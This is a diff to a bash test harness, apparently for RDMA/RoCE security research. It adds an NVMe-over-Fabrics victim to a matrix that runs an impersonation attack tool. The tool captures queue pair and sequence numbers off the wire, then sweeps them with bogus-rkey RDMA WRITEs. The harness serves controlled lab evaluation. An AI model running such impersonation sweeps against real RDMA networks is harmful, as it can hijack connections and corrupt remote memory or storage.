@@ -23,20 +23,20 @@
 cell_impersonate() {
 	local v=$1 line sweep ev opts=()
 	# rdmasec's client holds its connection until the sweep ends: give both sides time.
-	case "$v" in rdmasec) VICTIM_SECONDS=24 ;; rping | ucmatose) VICTIM_SECONDS=60 ;; esac
+	case "$v" in rdmasec) VICTIM_SECONDS=24 ;; rping | ucmatose) VICTIM_SECONDS=60 ;; nvmf) VICTIM_SECONDS=30 ;; esac
 	[ "$v" = ucmatose ] && cell_cm_capture_start
 	victim_start "$v" || { matrix_result impersonate "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
 	cell_cm_stop
 	case "$v" in
 	write_bw) victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN)) ;;
 	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$CM_REP_PSN ;;
-	rping) victim_wire_bth --now ;;
+	rping | nvmf) victim_wire_bth --now ;;
 	*) victim_wire_bth ;;
 	esac || { matrix_result impersonate "$v" error "" "no RoCE request (or QPN/PSN told in clear) seen"; victim_stop; return; }
 	case "$v" in
 	rdmasec) sweep=0:16777216 ;;
 	ucmatose) sweep=$WIRE_PSN:128 opts=(--qps 1 --no-watch) ;;
-	rping) sweep=$WIRE_PSN:16384 opts=(--qps 4 --passes 0 --no-watch) ;;
+	rping | nvmf) sweep=$WIRE_PSN:16384 opts=(--qps 4 --passes 0 --no-watch) ;;
 	*) sweep=$WIRE_PSN:4194304 ;;
 	esac
 	if ! cell_victim_running; then
@@ -44,9 +44,16 @@ cell_impersonate() {
 		victim_stop
 		return
 	fi
-	fabric on "$VICTIM_SRC_HOST" timeout 15 setpriv --reuid=65534 --regid=65534 --clear-groups \
+	# nvmf: the tool's start-up (device, 4 QPs) took over 15 s on a loaded machine.
+	fabric on "$VICTIM_SRC_HOST" timeout "$([ "$v" = nvmf ] && echo 40 || echo 15)" setpriv --reuid=65534 --regid=65534 --clear-groups \
 		"$ATK" impersonate -d "$VICTIM_SRC_DEV" --dst "$VICTIM_DST_IP" --qpn "$WIRE_QPN" --psn-sweep "$sweep" \
 		"${opts[@]}" --max-time 8 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
+	if [ "$v" = nvmf ]; then
+		cell_nvmf_watch $! 40
+		echo "impersonate exit $? (qpn $WIRE_QPN psn $WIRE_PSN sweep $sweep)" >&2
+		cell_nvmf_verdict impersonate "user nobody on host 2 (rxe2), bogus-rkey WRITEs $sweep at QP $WIRE_QPN"
+		return
+	fi
 	cell_watch_qp $! keep
 	echo "impersonate exit $? (qpn $WIRE_QPN psn $WIRE_PSN sweep $sweep)" >&2
 	[ "$v" = ucmatose ] && cell_final_qp_check
